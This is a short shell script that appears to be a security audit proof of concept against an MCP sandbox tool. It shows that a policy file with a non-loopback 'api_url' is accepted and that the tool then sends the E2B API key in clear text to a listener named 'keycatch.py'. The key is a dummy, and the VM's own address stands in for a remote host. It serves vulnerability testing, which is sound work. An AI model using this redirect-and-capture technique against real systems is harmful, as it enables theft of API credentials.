#!/bin/sh
# atk35 F7: e2b.api_url = "http://<not loopback>" is accepted (serve and verify say nothing) and the E2B
# key goes out in clear text. The VM's own interface address stands in for a remote host. Run as root.
IP=$(hostname -I | awk '{print $1}'); X=/tmp/atk35x; mkdir -p $X/e2b
printf 'version = 1\nscheme = "e2b"\n[e2b]\napi_url = "http://%s:18790"\napi_key_env = "E2B_API_KEY"\n' $IP > $X/h3.toml
: > $X/keycatch.log; python3 /work/notes/atk35/keycatch.py 18790 0.0.0.0 & KC=$!; sleep 3
export E2B_API_KEY=e2b_0123456789abcdef0123456789abcdef01234567
echo "== verify --policy:"; timeout 90 /tmp/atk35/mcpsandbox verify --policy $X/h3.toml 2>&1 | grep -E 'MS[0-9]|^verify:' | cut -c1-160
echo "== serve (stdio), one run_command:"
(printf '%s\n' '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"a","version":"1"}}}' '{"jsonrpc":"2.0","method":"notifications/initialized"}' '{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"run_command","arguments":{"command":"echo hi"}}}'; sleep 8) | HOME=$X/e2b timeout 30 /tmp/atk35/mcpsandbox serve --policy $X/h3.toml 2>/dev/null | tail -1 | cut -c1-200
echo "== what the listener at http://$IP:18790 received:"; cat $X/keycatch.log
kill $KC
